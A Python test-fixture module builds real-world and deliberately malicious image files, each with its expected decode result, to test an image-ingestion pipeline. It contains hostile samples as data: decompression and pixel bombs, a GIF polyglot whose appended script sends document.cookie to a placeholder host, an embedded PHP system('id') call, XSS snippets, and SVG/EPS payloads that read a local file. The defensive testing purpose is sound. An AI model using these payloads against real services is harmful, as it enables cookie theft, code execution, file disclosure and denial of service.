"""Images that people really have, and images that someone made to do harm, as code that makes them.

`IMAGES` maps a name to a case: the bytes, and what decoding them gives, which is either an upright
RGB image or a reason. Most are made of `QUADRANTS`.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from itertools import product

import numpy as np
from PIL import Image

from tests.pipelines.image_bytes import (
    PNG,
    arithmetic,
    bmp,
    box,
    chunk,
    encode,
    gif,
    insert_segments,
    png,
    tiff,
    webp,
    with_jpeg_size,
)

MAX_PIXELS = 1_000_000
Colours = tuple[tuple[int, int, int], ...]  # of the four quadrants, from the top left

SIZE = (64, 48)
RED, GREEN, BLUE, YELLOW = (220, 40, 40), (40, 200, 60), (40, 60, 220), (230, 220, 40)
QUADRANTS = RED, GREEN, BLUE, YELLOW
GREYS = tuple((value,) * 3 for value in (94, 136, 72, 202))
TURNED: dict[int, Colours] = {  # how the quadrants lie if the tag is ignored
    1: (RED, GREEN, BLUE, YELLOW),
    2: (GREEN, RED, YELLOW, BLUE),
    3: (YELLOW, BLUE, GREEN, RED),
    4: (BLUE, YELLOW, RED, GREEN),
    5: (RED, BLUE, GREEN, YELLOW),
    6: (GREEN, YELLOW, RED, BLUE),
    7: (YELLOW, GREEN, BLUE, RED),
    8: (BLUE, RED, YELLOW, GREEN),
}
ORIENTATION = 0x0112
SECRET_FILE = "/etc/hostname"  # a path that a test replaces by that of its own secret


@dataclass(frozen=True)
class Case:
    """The bytes, and what decoding gives."""

    make: bytes | Callable[[], bytes]
    reason: str | None = None
    size: tuple[int, int] = SIZE
    colours: Colours | None = QUADRANTS  # None: any
    stored_reason: str | None = None  # why it is not stored, though it can be decoded

    @property
    def content(self) -> bytes:
        return self.make() if callable(self.make) else self.make


def quadrants(colours: Colours = QUADRANTS, size: tuple[int, int] = SIZE) -> Image.Image:
    pixels = np.array(colours, dtype=np.uint8).reshape(2, 2, 3)
    return Image.fromarray(pixels).resize(size, Image.Resampling.NEAREST)


IMAGE = quadrants()
PIXELS = np.asarray(IMAGE)
JPEG = encode(IMAGE, "JPEG", quality=95, subsampling=0)
WHOLE_PNG = encode(IMAGE, "PNG")
OTHERS = [quadrants((BLUE,) * 4), quadrants((YELLOW,) * 4)]
NOISE = Image.fromarray(np.random.default_rng(0).integers(0, 255, (200, 200, 3), dtype=np.uint8))


def save(format_: str, image: Image.Image = IMAGE, **options: object) -> Callable[[], bytes]:
    return lambda: encode(image, format_, **options)


def cut(format_: str, share: float, **options: object) -> Callable[[], bytes]:
    def half() -> bytes:
        whole = encode(NOISE, format_, **options)
        return whole[: int(len(whole) * share)]

    return half


def turned(orientation: int, format_: str = "JPEG") -> Case:
    """An image that is upright once its orientation is followed."""
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    size = SIZE if orientation in (0, 1, 2, 3, 4, 9) else SIZE[::-1]
    image = quadrants(TURNED.get(orientation, QUADRANTS), size)
    return Case(save(format_, image, exif=exif, lossless=True, quality=95))


def with_alpha(mode: str) -> Image.Image:
    """The quadrants, with a clear one at the top right."""
    alpha = np.full(SIZE[::-1], 255, np.uint8)
    alpha[: SIZE[1] // 2, SIZE[0] // 2 :] = 0
    image = IMAGE.convert(mode[:-1])
    image.putalpha(Image.fromarray(alpha))
    return image


def clear_palette() -> bytes:
    image = Image.fromarray(np.kron([[0, 1], [2, 3]], np.ones((24, 32))).astype(np.uint8), "P")
    image.putpalette([value for colour in QUADRANTS for value in colour])
    return encode(image, "PNG", transparency=1)


def zipped() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as out:
        out.writestr("x.html", "<script>alert(1)</script>")
    return archive.getvalue()


def progressive(scans: int) -> bytes:
    """A progressive JPEG whose last scan comes again and again."""
    whole = encode(IMAGE, "JPEG", progressive=True, quality=95, subsampling=0)
    last = whole[whole.rindex(b"\xff\xda") : -2]
    return whole[:-2] + last * scans + b"\xff\xd9"


def flipped(chunk_name: bytes, offset: int) -> bytes:
    """The PNG with one bit of another value, so many bytes after the name of a chunk."""
    at = WHOLE_PNG.index(chunk_name) + offset
    return WHOLE_PNG[:at] + bytes([WHOLE_PNG[at] ^ 1]) + WHOLE_PNG[at + 1 :]


def tile_bomb() -> bytes:
    """Tiles of 400 million pixels around an image of 256."""
    return tiff(
        zlib.compress(bytes(10**7)),
        width=16,
        height=16,
        tile_width=20_000,
        tile_height=20_000,
        compression=8,
    )


def directory_bomb() -> bytes:
    """EXIF data with 5,000 tags, each of which is the whole data."""
    tags = b"".join(struct.pack("<HHII", 1000 + i, 7, 10**6, 8) for i in range(5000))
    return b"II*\0\x08\0\0\0" + struct.pack("<H", 5000) + tags + bytes(10**6)


def deflated(size: int) -> bytes:
    return zlib.compress(bytes(size), 9)


DEEP = np.array(GREYS, np.uint16)[:, 0].reshape(2, 2).repeat(24, 0).repeat(32, 1)[..., None] * 257
FRAMES = {"save_all": True, "append_images": OTHERS, "duration": 50}
WIDE = np.zeros((1, 400, 3), np.uint8)
XXE = f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{SECRET_FILE}">]>'
SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="file://{SECRET_FILE}"/>&x;</svg>'
EPS = (
    "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 48 32\n%%EndComments\n"
    f"({SECRET_FILE}) (r) file 100 string readstring\nshowpage\n%%EOF\n"
)
PSD = b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, 32, 48, 8, 3) + bytes(12) + bytes(2 + 48 * 32 * 3)

IMAGES: dict[str, Case] = {
    # too many pixels for few bytes
    "PNG of 10^18 pixels": Case(png(PIXELS, declared=(2**30, 2**30)), "too_many_pixels"),
    "PNG of more pixels than allowed": Case(
        save("PNG", Image.new("1", (1001, 1000))), "too_many_pixels"
    ),
    "GIF with a huge screen": Case(gif((65535, 65535), (0, 0, 48, 32)), "too_many_pixels"),
    "GIF with a frame far outside": Case(gif((48, 32), (60000, 60000, 48, 32)), "too_many_pixels"),
    "TIFF of absurd size": Case(
        tiff(b"x", width=2**31 - 1, height=2**31 - 1, rows_per_strip=1), "too_many_pixels"
    ),
    "TIFF with huge tiles": Case(tile_bomb, "too_complex"),
    "WebP with a huge canvas": Case(
        lambda: webp((16384, 16384), encode(IMAGE, "WEBP")), "too_many_pixels"
    ),
    "WebP with a wrong canvas": Case(
        lambda: webp((500, 300), encode(IMAGE, "WEBP")), "undecodable"
    ),
    "BMP of absurd size": Case(bmp(2**31 - 1, 2**31 - 1), "too_many_pixels"),
    "JPEG of absurd size": Case(with_jpeg_size(JPEG, 65000, 65000), "too_many_pixels"),
    # much work for few bytes
    "PNG with a text bomb": Case(
        lambda: png(PIXELS, extra=chunk(b"zTXt", b"a\0\0" + deflated(10**8))), "undecodable"
    ),
    "PNG with a profile bomb": Case(
        lambda: png(PIXELS, extra=chunk(b"iCCP", b"a\0\0" + deflated(10**8))), "undecodable"
    ),
    "PNG whose pixels are a bomb": Case(
        lambda: png(np.zeros((48, 64 * 2_000, 3), np.uint8), declared=SIZE), colours=None
    ),
    "PNG with 10,000 empty chunks": Case(lambda: png(PIXELS, extra=chunk(b"teSt") * 10_000)),
    "GIF with 10,000 comments": Case(gif((64, 48), (0, 0, 64, 48), 10_000), colours=None),
    "JPEG with 60,000 segments": Case(lambda: insert_segments(JPEG, [(0xE5, b"")] * 60_000)),
    "JPEG with 60,000 EXIF segments": Case(
        lambda: insert_segments(JPEG, [(0xE1, b"Exif\0\0x")] * 60_000), "too_complex"
    ),
    "JPEG with 10 repeated scans": Case(lambda: progressive(10)),
    "JPEG with 10,000 scans": Case(lambda: progressive(10_000), "too_complex"),
    "PNG with an EXIF bomb": Case(lambda: png(PIXELS, extra=chunk(b"eXIf", directory_bomb()))),
    # cut off, or damaged
    "nothing": Case(b"", "not_an_image"),
    "one byte": Case(b"\xff", "not_an_image"),
    "JPEG without an image": Case(JPEG[:2] + b"\xff\xd9", "not_an_image"),
    "JPEG cut in its header": Case(cut("JPEG", 0.005), "truncated"),
    "JPEG cut in its image": Case(cut("JPEG", 0.5), "truncated"),
    "progressive JPEG cut": Case(cut("JPEG", 0.5, progressive=True), "truncated"),
    "PNG cut in its header": Case(WHOLE_PNG[:20], "truncated"),
    "PNG cut in its image": Case(cut("PNG", 0.5), "truncated"),
    "WebP cut": Case(cut("WEBP", 0.5), "undecodable"),
    "GIF cut": Case(cut("GIF", 0.9), "truncated"),
    "BMP cut": Case(cut("BMP", 0.5), "truncated"),
    "PNG with a wrong checksum of its header": Case(flipped(b"IHDR", 17), "not_an_image"),
    # Its pixels have a second checksum, which is right.
    "PNG with a wrong checksum of its pixels": Case(flipped(b"IEND", -8)),
    "PNG with wrong pixels": Case(flipped(b"IDAT", 40), "undecodable"),
    "PNG of no pixels": Case(png(PIXELS, declared=(0, 48)), "not_an_image"),
    "PNG of fewer pixels than it says": Case(
        png(PIXELS, declared=(64, 480)), size=(64, 480), colours=None
    ),
    "JPEG of fewer pixels than it has": Case(
        with_jpeg_size(JPEG, 32, 24), size=(32, 24), colours=None
    ),
    "JPEG whose scan is noise": Case(
        lambda: JPEG[: JPEG.index(b"\xff\xda") + 14] + b"\x5a" * 500 + b"\xff\xd9", colours=None
    ),
    "BMP of 77 bits": Case(bmp(64, 48, bits=77), "undecodable"),
    "BMP with a huge palette": Case(
        bmp(64, 48, bits=8, colours=2**32 - 1, pixels=bytes(9000)), "undecodable"
    ),
    "TIFF of 65,000 channels": Case(
        tiff(PIXELS.tobytes(), width=64, height=48, rows_per_strip=48, samples=65_000),
        "not_an_image",
    ),
    "TIFF whose directory is nowhere": Case(b"II*\0\xff\xff\xff\x7f" + bytes(99), "not_an_image"),
    "TIFF of floating-point numbers": Case(save("TIFF", Image.new("F", SIZE)), "undecodable"),
    # two files in one
    "JPEG and ZIP": Case(lambda: JPEG + zipped()),
    "GIF and script": Case(
        lambda: encode(IMAGE, "GIF") + b"*/=1;fetch('http://a/'+document.cookie)//"
    ),
    "PNG and page": Case(WHOLE_PNG + b"<html><script>alert(1)</script>"),
    "JPEG and a film that has bytes like markers": Case(JPEG + b"\xff\xda\xff\xe1" * 1000),
    "JPEG with a comment that has bytes like markers": Case(
        insert_segments(JPEG, [(0xFE, b"\xff\xda\xff\xe1" * 1000)])
    ),
    "JPEG with a script as comment": Case(
        insert_segments(JPEG, [(0xFE, b"<?php system('id'); ?>")])
    ),
    "PDF with a JPEG inside": Case(b"%PDF-1.4\n1 0 obj <<>> stream\n" + JPEG, "not_an_image"),
    # several images: the first counts
    "animated GIF": Case(save("GIF", **FRAMES)),
    "animated WebP": Case(save("WEBP", **FRAMES, lossless=True)),
    "animated PNG": Case(save("PNG", **FRAMES)),
    "TIFF of three pages": Case(save("TIFF", **FRAMES)),
    "JPEG of three images": Case(save("MPO", **FRAMES, quality=95, subsampling=0)),
    "GIF whose frame is larger than its screen": Case(gif((32, 24), (0, 0, 64, 48)), colours=None),
    # colours
    "CMYK JPEG": Case(save("JPEG", IMAGE.convert("CMYK"), quality=95, subsampling=0)),
    "CMYK TIFF": Case(save("TIFF", IMAGE.convert("CMYK"))),
    "YCbCr TIFF": Case(save("TIFF", IMAGE.convert("YCbCr"), compression="raw")),
    "grey JPEG": Case(save("JPEG", IMAGE.convert("L"), quality=95), colours=GREYS),
    "progressive JPEG": Case(save("JPEG", progressive=True, quality=95, subsampling=0)),
    "arithmetic-coded JPEG": Case(lambda: arithmetic(JPEG), colours=None),
    "16-bit grey PNG": Case(png(DEEP), colours=GREYS),
    "16-bit grey TIFF": Case(lambda: encode(Image.fromarray(DEEP[..., 0]), "TIFF"), colours=GREYS),
    "16-bit PNG": Case(png(PIXELS.astype(np.uint16) * 257)),
    "1-bit PNG": Case(save("PNG", Image.new("1", SIZE, 1)), colours=((255,) * 3,) * 4),
    "palette": Case(save("PNG", IMAGE.quantize(4))),
    "palette with a clear colour": Case(
        clear_palette, colours=(RED, (255, 255, 255), BLUE, YELLOW)
    ),
    "interlaced PNG": Case(png(PIXELS, interlaced=True)),
    "RGBA": Case(
        lambda: encode(with_alpha("RGBA"), "PNG"), colours=(RED, (255,) * 3, BLUE, YELLOW)
    ),
    "RGBA WebP": Case(
        lambda: encode(with_alpha("RGBA"), "WEBP", lossless=True),
        colours=(RED, (255,) * 3, BLUE, YELLOW),
    ),
    "LA": Case(lambda: encode(with_alpha("LA"), "PNG"), colours=(GREYS[0], (255,) * 3, *GREYS[2:])),
    "broken colour profile": Case(save("JPEG", icc_profile=b"x" * 500, quality=95)),
    "colour profile of other colours": Case(
        png(PIXELS, extra=chunk(b"iCCP", b"a\0\0" + zlib.compress(b"GRAY" * 99)))
    ),
    "BMP from the top": Case(bmp(64, -48, pixels=IMAGE.tobytes("raw", "BGR"))),
    # upright
    **{f"{f}, orientation {o}": turned(o, f) for o, f in product(range(1, 9), ("JPEG", "PNG"))},
    "WebP, orientation 6": turned(6, "WEBP"),
    "TIFF, orientation 6": turned(6, "TIFF"),
    "orientation 0": turned(0),
    "orientation 9": turned(9),
    "EXIF data of noise": Case(save("JPEG", exif=b"Exif\0\0" + bytes(range(256)), quality=95)),
    "EXIF data without an end": Case(
        save("JPEG", exif=b"Exif\0\0MM\0*\0\0\0\x08\xff\xff" + b"\xff" * 99, quality=95)
    ),
    # sizes
    "1 x 1": Case(save("PNG", Image.new("RGB", (1, 1))), size=(1, 1), colours=None),
    "a line across": Case(png(WIDE), size=(400, 1), colours=None, stored_reason="aspect_ratio"),
    "a line down": Case(
        png(WIDE.transpose(1, 0, 2)), size=(1, 400), colours=None, stored_reason="aspect_ratio"
    ),
    # other formats
    "JPEG 2000": Case(save("JPEG2000"), "not_an_image"),
    "AVIF": Case(save("AVIF"), "not_an_image"),
    "HEIC": Case(box(b"ftyp", b"heic"), "not_an_image"),
    "MP4": Case(box(b"ftyp", b"isom"), "not_an_image"),
    "ICO": Case(save("ICO"), "not_an_image"),
    "PSD": Case(PSD, "not_an_image"),
    "EPS": Case(EPS.encode(), "not_an_image"),
    "PDF": Case(save("PDF"), "not_an_image"),
    "SVG": Case(SVG.replace("&x;", "").encode(), "not_an_image"),
    "SVG with an entity of a file": Case((XXE + SVG).encode(), "not_an_image"),
    "page": Case(b"<!DOCTYPE html><title>Not here</title>", "not_an_image"),
    "XML": Case(b'<?xml version="1.0"?><Error><Code>AccessDenied</Code></Error>', "not_an_image"),
    "JSON": Case(b'{"error": "rate limit"}', "not_an_image"),
    "text": Case(b"version https://example.org/spec/v1\noid sha256:0\n", "not_an_image"),
    "zeros": Case(bytes(10_000), "not_an_image"),
    "PNG signature alone": Case(PNG, "not_an_image"),
}
